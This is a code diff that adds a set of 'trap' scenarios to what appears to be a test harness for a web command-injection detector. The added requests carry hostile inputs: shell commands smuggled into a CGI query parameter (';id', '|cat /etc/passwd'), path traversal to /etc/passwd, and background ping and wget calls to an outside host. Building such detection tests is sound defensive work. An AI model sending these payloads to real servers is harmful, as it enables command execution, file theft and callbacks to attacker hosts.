@@ -91,6 +91,19 @@ LOOKALIKE = [
     dict(get('/docs/shell.html?page=;id'), **ATTEMPT), dict(get('/docs/shell.html?page=1'), **{'class': 'benign'}),
 ]
 
+# What happens anyway: a page with text like a success for everybody, code behind the server's own "not found", a contact
+# that an earlier attack left behind
+LATER = f'(sleep 1; wget -q -O- http://{OUTSIDE}:8000/x)&'
+TRAPS = [
+    get('/'), get('/missing.html'), get('/cgi-bin/manual'), get('/cgi-bin/manual?page=accounts'), get('/cgi-bin/gone'),
+    dict(get('/cgi-bin/manual?page=' + quote(';id')), **ATTEMPT), dict(get('/cgi-bin/manual?page=' + quote('|cat /etc/passwd')), **ATTEMPT),
+    dict(get('/cgi-bin/manual?page=../../../../etc/passwd'), **{'class': 'lfi', 'seen': 'output'}),
+    inject('gone', ';id', None), inject('gone', ';touch /tmp/konseki', None, 'POST'), inject('gone', f';ping -c1 {OUTSIDE}', 'icmp'),
+    inject('gone', f';(sleep 1; ping -c1 {OUTSIDE})&', 'icmp', pause=1.5),
+    inject('quiet', ';' + LATER, 'fetch'), inject('careful', ';' + LATER, 'fetch', pause=2),
+    inject('quiet', f';ping -c3 {OUTSIDE} &', 'icmp'), inject('careful', f';ping -c3 {OUTSIDE} &', 'icmp', pause=2.5),
+]
+
 # Answers that end too early: by the server's death, by the client, by the end of the recording
 CUT = [
     get('/'), get('/cgi-bin/slow?host=mail.example.test'),
@@ -107,7 +120,7 @@ BENIGN = ORDINARY + [
     dict(get('/tools.html?utm_source=news%20letter&utm_campaign=a;b;c'), method='HEAD'),
 ]
 
-SCENARIOS = {'refused': REFUSED, 'injected': INJECTED, 'blind': BLIND, 'lookalike': LOOKALIKE, 'benign': BENIGN, 'cut': CUT}
+SCENARIOS = {'refused': REFUSED, 'injected': INJECTED, 'blind': BLIND, 'lookalike': LOOKALIKE, 'benign': BENIGN, 'traps': TRAPS, 'cut': CUT}
 
 
 def encode(step):
@@ -243,7 +256,7 @@ def main():
         steps = entry if isinstance(entry, list) else [entry]
         known = set(os.listdir(f'{arguments.work}/truth'))
         port, sent = visitor.visit(steps)
-        time.sleep(0.15)
+        time.sleep(max(step.get('pause', 0.15) for step in steps))
         rows, read = truths(arguments.work, read)
         for step in steps:
             if rows:
